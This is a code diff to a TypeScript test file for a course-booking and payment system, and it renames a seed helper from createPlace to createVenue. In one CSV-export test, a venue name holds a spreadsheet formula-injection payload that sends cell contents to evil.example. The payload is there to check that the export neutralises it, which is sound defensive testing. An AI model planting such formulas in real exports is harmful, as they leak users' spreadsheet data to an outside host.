@@ -4,7 +4,7 @@ import { PDFParse } from 'pdf-parse';
 import { describe, expect, it } from 'vitest';
 import { osloDateKey, osloTime } from '@app/shared';
 import { dateChoices, familyCredits, orderEvents, orders, outbox } from '../../db/schema';
-import { createCourse, createFamily, createPlace, type Family } from '../../db/seed/builders';
+import { createCourse, createFamily, createVenue, type Family } from '../../db/seed/builders';
 import { submitLandingPage } from '../../test/epayment';
 import { bookingTestWithClock, payForCourse } from '../../test/booking';
 import { applyDefaults } from '../changes/changes.service';
@@ -110,7 +110,7 @@ describe('M1: a cancellation settles every open date choice', () => {
   });
 
   it('money event "date cancelled, make-up taken, then parent cancels": the make-up counts as given', async () => {
-    const place = await createPlace(kit.t.db);
+    const place = await createVenue(kit.t.db);
     const own = await createCourse(kit.t.db, { place, priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, experienceLevel: 'Nybegynner' });
     const wednesday = osloTime(2027, 3, 3, '10:00');
     const makeup = await createCourse(kit.t.db, { place, priceOre: 80_000, maximumParticipants: 4, dates: [wednesday], ageMinMonths: null, ageMaxMonths: null, experienceLevel: 'Nybegynner' });
@@ -293,7 +293,7 @@ describe('bookkeeping', () => {
   });
 
   it('L4: the CSV neutralises text cells that start with = + - @ tab or CR; negative amounts stay numbers', async () => {
-    const evil = await createCourse(kit.t.db, { priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, place: await createPlace(kit.t.db, { name: '=HYPERLINK("http://evil.example/?x="&A2,"Klikk")' }) });
+    const evil = await createCourse(kit.t.db, { priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, place: await createVenue(kit.t.db, { name: '=HYPERLINK("http://evil.example/?x="&A2,"Klikk")' }) });
     const { order } = await payForCourse(kit.t, evil);
     await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
     const today = osloDateKey(new Date());
